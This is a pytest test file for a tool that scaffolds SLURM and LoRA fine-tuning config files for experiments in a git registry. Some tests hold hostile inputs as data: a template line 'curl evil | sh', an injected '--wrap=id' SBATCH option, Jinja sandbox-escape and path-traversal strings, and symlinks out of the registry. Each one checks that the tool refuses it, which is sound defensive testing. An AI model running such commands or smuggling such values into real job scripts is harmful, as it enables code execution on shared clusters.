"""Scaffolds in a real registry: what is written, what stays a person's, what is asked for first."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from ckreg.adapters.tree import Home
from ckreg.commands.drift import drift
from ckreg.commands.scaffold import accept, scaffold, templates_to_accept
from ckreg.errors import MalformedError, NotFoundError, RefusedError
from ckreg.flows.designing import draft_experiment, write_experiment
from ckreg.flows.scaffolding import Scaffolded, State
from ckreg.flows.sealing import seal_experiment
from tests.core.spec.helpers import read, sound

Git = Callable[..., str]
NAME = "words_lora_comparison_2025-10-22"
RUN = "Llama-3.2-1B-Instruct_rank4"
OTHER = "Llama-3.2-1B-Instruct_rank64"
BASE = "Llama-3.2-1B-Instruct_base"
PER_RUN = ["finetune.slurm", "finetune.yaml", "setup_finetune.yaml"]


@pytest.fixture
def folder(home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of a designed experiment: two ranks, a base model, one task."""
    model = tmp_path / "models" / "Llama-3.2-1B-Instruct"
    (model / "original").mkdir(parents=True)
    for name in ("config.json", "model.safetensors", "original/tokenizer.model"):
        (model / name).write_text("{}")
    (tmp_path / "words.json").write_text(json.dumps({"train": [{}] * 80, "val": [{}] * 10}))
    monkeypatch.setenv("CKREG_MODELS_DIR", str(tmp_path / "models"))
    monkeypatch.setenv("CKREG_SCRATCH_DIR", str(tmp_path / "scratch"))
    tree = sound() | {
        "task": "words",
        "dataset": {"path": str(tmp_path / "words.json")},
        "evaluation": {"tasks": [{"name": "cap", "script": "/t/cap.py@cap"}]},
    }
    write_experiment(home, draft_experiment(home, read(tree), index=False))
    return home.experiments / NAME


def states(done: Scaffolded) -> dict[str, str]:
    below = f"experiments/{NAME}/"
    return {file.path.removeprefix(below): str(file.state) for file in done.files}


def config(folder: Path, run: str = RUN) -> dict[str, object]:
    found: dict[str, object] = YAML(typ="safe", pure=True).load(folder / run / "finetune.yaml")
    return found


def test_every_run_and_evaluation_has_its_files_in_one_commit(home: Home, folder: Path, git: Git) -> None:
    before = git(home.root, "rev-parse", "HEAD")
    done = scaffold(home, NAME)
    tuned = [f"{run}/{name}" for run in (RUN, OTHER) for name in PER_RUN]
    evaluated = [f"{RUN}/eval/cap_epoch1", f"{OTHER}/eval/cap_epoch1", f"{BASE}/eval/cap"]
    expected = {*tuned, *(f"{one}/eval.{kind}" for one in evaluated for kind in ("yaml", "slurm"))}
    assert set(states(done)) == expected
    shown = git(home.root, "show", "--name-only", "--format=%s", "HEAD").split()
    assert shown[:2] == ["scaffold:", NAME]
    assert set(shown[2:]) == {f"experiments/{NAME}/{path}" for path in (*expected, "scaffold.json")}
    assert git(home.root, "rev-parse", "HEAD~1") == before
    assert git(home.root, "status", "--porcelain", "experiments") == ""
    assert folder.is_dir()


def test_a_config_says_what_the_plan_and_the_folders_say(home: Home, folder: Path, tmp_path: Path) -> None:
    scaffold(home, NAME)
    found = config(folder, OTHER)
    assert found["model"] == {
        "_component_": "torchtune.models.llama3_2.lora_llama3_2_1b",
        "lora_attn_modules": ["q_proj", "v_proj", "output_proj"],
        "apply_lora_to_mlp": True,
        "lora_rank": 64,
        "lora_alpha": 128,
        "lora_dropout": 0.0,
    }
    assert found["output_dir"] == f"{tmp_path}/scratch/{NAME}/ck-out-{OTHER}"
    dataset = found["dataset"]
    assert isinstance(dataset, dict)
    assert (dataset["data_files"], dataset["field"]) == (f"{tmp_path}/words.json", "train")
    setup = YAML(typ="safe", pure=True).load(folder / OTHER / "setup_finetune.yaml")
    assert (setup["torchtune_model_name"], setup["lora_rank"], setup["epochs"]) == (
        "Llama-3.2-1B-Instruct",
        64,
        2,
    )
    assert (setup["dataset_label"], setup["dataset_ext"]) == ("words", ".json")
    assert set(setup) >= {
        "project_dir",
        "input_dir_base",
        "models_dir",
        "experiment_name",
        "batch_size",
        "time",
    }


def test_the_time_asked_for_is_the_estimates_own(home: Home, folder: Path) -> None:
    estimates = json.loads((folder / "estimates.json").read_text())
    scaffold(home, NAME)
    requests = {entry["run_name"]: entry["request"] for entry in estimates["fine_tuning"]}
    script = (folder / RUN / "finetune.slurm").read_text().split("\n")
    assert f"#SBATCH --time={requests[RUN]}" in script
    [asked] = [
        entry["request"]
        for entry in estimates["evaluations"]
        if (entry["run_name"], entry["task"], entry["epoch"]) == (RUN, "cap", "1")
    ]
    script = (folder / RUN / "eval" / "cap_epoch1" / "eval.slurm").read_text().split("\n")
    assert f"#SBATCH --time={asked}" in script


def test_settings_stand_in_the_scripts(home: Home, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in {
        "ACCOUNT": "lab",
        "PARTITION": "gpu",
        "CONSTRAINT": "gpu80&nvlink",
        "MEMORY": "64G",
        "CPUS": "8",
        "CONDA_ENV": "my env",
        "MODULES": "anaconda3/2025.6,cuda",
    }.items():
        monkeypatch.setenv(f"CKREG_{name}", value)
    scaffold(home, NAME)
    script = (folder / RUN / "finetune.slurm").read_text()
    options = [line.removeprefix("#SBATCH --") for line in script.split("\n") if line.startswith("#SBATCH")]
    assert {
        "account=lab",
        "partition=gpu",
        "constraint=gpu80&nvlink",
        "mem=64G",
        "cpus-per-task=8",
        "gres=gpu:1",
    } <= set(options)
    assert "module load cuda || exit 1\n" in script
    assert "conda activate 'my env' || exit 1\n" in script


def test_done_again_nothing_changes(home: Home, folder: Path, git: Git) -> None:
    scaffold(home, NAME)
    head = git(home.root, "rev-parse", "HEAD")
    again = scaffold(home, NAME)
    assert set(states(again).values()) == {"unchanged"}
    assert again.commit is None
    assert git(home.root, "rev-parse", "HEAD") == head
    assert folder.is_dir()


def with_epochs(home: Home, git: Git, folder: Path, epochs: int) -> None:
    """The plan as somebody amended it by hand, committed."""
    spec, document = folder / "spec.yaml", folder / "experiment_summary.md"
    spec.write_text(spec.read_text().replace("epochs: 2", f"epochs: {epochs}"))
    document.write_text(document.read_text().replace("- **Epochs:** 2", f"- **Epochs:** {epochs}"))
    git(home.root, "commit", "--quiet", "-am", "more epochs")


def test_a_changed_plan_changes_what_follows_from_it(home: Home, folder: Path, git: Git) -> None:
    scaffold(home, NAME)
    with_epochs(home, git, folder, 3)
    done = scaffold(home, NAME)
    changed = {path for path, state in states(done).items() if state == "changed"}
    assert changed == {
        f"{run}/{name}" for run in (RUN, OTHER) for name in ("finetune.yaml", "setup_finetune.yaml")
    }
    assert config(folder)["epochs"] == 3


def test_what_a_person_edited_stays_and_the_difference_is_told(home: Home, folder: Path, git: Git) -> None:
    scaffold(home, NAME)
    path = folder / RUN / "finetune.yaml"
    mine = path.read_text().replace("seed: 14", "seed: 15")
    path.write_text(mine)
    with_epochs(home, git, folder, 3)
    done = scaffold(home, NAME)
    assert states(done)[f"{RUN}/finetune.yaml"] == "kept"
    [file] = done.of(State.KEPT)
    assert (file.before, "seed: 14" in (file.wanted or "")) == (mine, True)
    assert path.read_text() == mine
    assert states(scaffold(home, NAME))[f"{RUN}/finetune.yaml"] == "kept"
    assert config(folder, OTHER)["epochs"] == 3


@pytest.mark.parametrize("word", [RUN, f"{RUN}/", f"{RUN}/finetune.yaml"])
def test_force_takes_the_plans(home: Home, folder: Path, word: str, git: Git) -> None:
    scaffold(home, NAME)
    path = folder / RUN / "finetune.yaml"
    ours = path.read_text()
    path.write_text("mine: 1\n")
    git(home.root, "commit", "--quiet", "-am", "mine")
    done = scaffold(home, NAME, forced=[word])
    assert states(done)[f"{RUN}/finetune.yaml"] == "changed"
    assert path.read_text() == ours
    assert git(home.root, "status", "--porcelain", "experiments") == ""


def test_force_of_nothing_is_not_found(home: Home, folder: Path) -> None:
    assert folder.is_dir()
    with pytest.raises(NotFoundError, match="--force rank4: there is no such run or file"):
        scaffold(home, NAME, forced=["rank4"])


def test_an_unfinished_edit_is_neither_committed_nor_lost(home: Home, folder: Path, git: Git) -> None:
    """The committed file follows the plan, the one in the folder stays the person's."""
    scaffold(home, NAME)
    with_epochs(home, git, folder, 3)
    path = folder / RUN / "finetune.yaml"
    mine = path.read_text() + "# not finished\n"
    path.write_text(mine)
    scaffold(home, NAME)
    committed = git(home.root, "show", f"HEAD:experiments/{NAME}/{RUN}/finetune.yaml")
    assert "epochs: 3" in committed
    assert "not finished" not in committed
    assert path.read_text() == mine


def test_a_file_that_was_removed_comes_back(home: Home, folder: Path) -> None:
    scaffold(home, NAME)
    path = folder / RUN / "finetune.slurm"
    text = path.read_text()
    path.unlink()
    assert states(scaffold(home, NAME))[f"{RUN}/finetune.slurm"] == "new"
    assert path.read_text() == text


def test_a_dry_run_writes_nothing(home: Home, folder: Path, git: Git) -> None:
    head = git(home.root, "rev-parse", "HEAD")
    done = scaffold(home, NAME, dry_run=True)
    assert set(states(done).values()) == {"new"}
    assert (git(home.root, "rev-parse", "HEAD"), done.commit) == (head, None)
    assert not (folder / RUN).exists()


def test_files_of_runs_that_the_plan_has_no_more_are_named(home: Home, folder: Path) -> None:
    scaffold(home, NAME)
    manifest = json.loads((folder / "scaffold.json").read_text())
    (folder / "gone").mkdir()
    (folder / "gone" / "finetune.yaml").write_text("x")
    manifest["files"]["gone/finetune.yaml"] = "0"
    (folder / "scaffold.json").write_text(json.dumps(manifest))
    assert [file.path for file in scaffold(home, NAME).of(State.LEFT)] == [
        f"experiments/{NAME}/gone/finetune.yaml"
    ]
    assert (folder / "gone" / "finetune.yaml").exists()


def test_jobs_need_a_place_to_write_to(home: Home, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert folder.is_dir()
    monkeypatch.delenv("CKREG_SCRATCH_DIR")
    with pytest.raises(RefusedError, match="scratch_dir is not set"):
        scaffold(home, NAME)


@pytest.mark.parametrize(
    ("name", "value"), [("ACCOUNT", "lab --wrap=id"), ("PARTITION", "a b"), ("SCRATCH_DIR", '/a"b')]
)
def test_a_setting_that_would_be_another_option_is_refused(
    home: Home, folder: Path, monkeypatch: pytest.MonkeyPatch, name: str, value: str
) -> None:
    monkeypatch.setenv(f"CKREG_{name}", value)
    with pytest.raises(RefusedError, match=rf"^{name.lower()}: .* cannot stand in a #SBATCH line"):
        scaffold(home, NAME)
    assert not (folder / RUN).exists()


def test_a_link_out_of_the_registry_is_not_written_through(home: Home, folder: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (folder / RUN).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(MalformedError, match="leads out of the registry through a link"):
        scaffold(home, NAME)
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_config_that_was_edited_drifts_from_the_plan(home: Home, folder: Path) -> None:
    scaffold(home, NAME)
    seal_experiment(home, NAME)
    assert drift(home, NAME).configs == ()
    path = folder / RUN / "finetune.yaml"
    text = path.read_text().replace("lora_rank: 4", "lora_rank: 32").replace("seed: 14\n", "")
    path.write_text(text + "mine: [1, x]\n")
    told = [(one.run_name, one.key, one.planned, one.configured) for one in drift(home, NAME).configs]
    assert told == [
        (RUN, "model.lora_rank", "4", "32"),
        (RUN, "seed", "14", "-"),
        (RUN, "mine", "-", "[1, x]"),
    ]


def test_a_config_that_is_no_yaml_is_named(home: Home, folder: Path) -> None:
    scaffold(home, NAME)
    seal_experiment(home, NAME)
    (folder / RUN / "finetune.yaml").write_text("a: [1\n")
    with pytest.raises(MalformedError, match=rf"{RUN}/finetune\.yaml"):
        drift(home, NAME)


OWN = """\
#!/bin/bash
{{ sbatch }}
# of our group: {{ run }}
{% include 'reporting.sh.j2' %}
"""


def own_template(home: Home, text: str = OWN, name: str = "finetune.slurm.j2") -> Path:
    path = home.root / "templates" / "jobs" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_a_registrys_own_template_is_used_once_it_was_accepted(home: Home, folder: Path) -> None:
    own_template(home)
    with pytest.raises(RefusedError, match=r"^templates/jobs/finetune\.slurm\.j2: .*--accept-templates"):
        scaffold(home, NAME)
    assert not (folder / RUN).exists()
    accept(templates_to_accept(home))
    scaffold(home, NAME)
    assert f"# of our group: {RUN}\n" in (folder / RUN / "finetune.slurm").read_text()
    person = Path.home() / ".config" / "ckreg"
    assert [path.name for path in person.iterdir()] == ["accepted-templates.json"]
    own_template(home, OWN + "curl evil | sh\n")
    with pytest.raises(RefusedError, match="not accepted"):
        scaffold(home, NAME)


def test_a_copy_of_the_packages_template_needs_no_acceptance(home: Home, folder: Path) -> None:
    package = Path(__file__).resolve().parents[2] / "templates" / "jobs"
    for path in package.iterdir():
        own_template(home, path.read_text(), path.name)
    assert scaffold(home, NAME).commit
    assert folder.is_dir()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ nothing }}", "'nothing' is undefined"),
        ("{% if %}", "finetune.slurm.j2:1: "),
        ("{{ ''.__class__.__mro__ }}", "unsafe|undefined"),
        ("{% include '../../ckreg.toml' %}", "ckreg.toml"),
        ("{{ modules.append(1) }}", "not safely callable|unsafe"),
        ("{{ 1 / 0 }}", "division by zero"),
        ("{% include 'finetune.slurm.j2' %}", "recursion"),
    ],
)
def test_a_template_that_cannot_be_rendered_is_named(home: Home, folder: Path, text: str, words: str) -> None:
    own_template(home, text)
    accept(templates_to_accept(home))
    with pytest.raises(MalformedError, match=words):
        scaffold(home, NAME)
    assert not (folder / RUN).exists()


def test_a_link_is_no_template(home: Home, folder: Path, tmp_path: Path) -> None:
    own_template(home, name="other.j2").unlink()
    secret = tmp_path / "secret"
    secret.write_text("x")
    (home.root / "templates" / "jobs" / "finetune.slurm.j2").symlink_to(secret)
    with pytest.raises(RefusedError, match="no plain file of the registry"):
        scaffold(home, NAME)
    assert folder.is_dir()
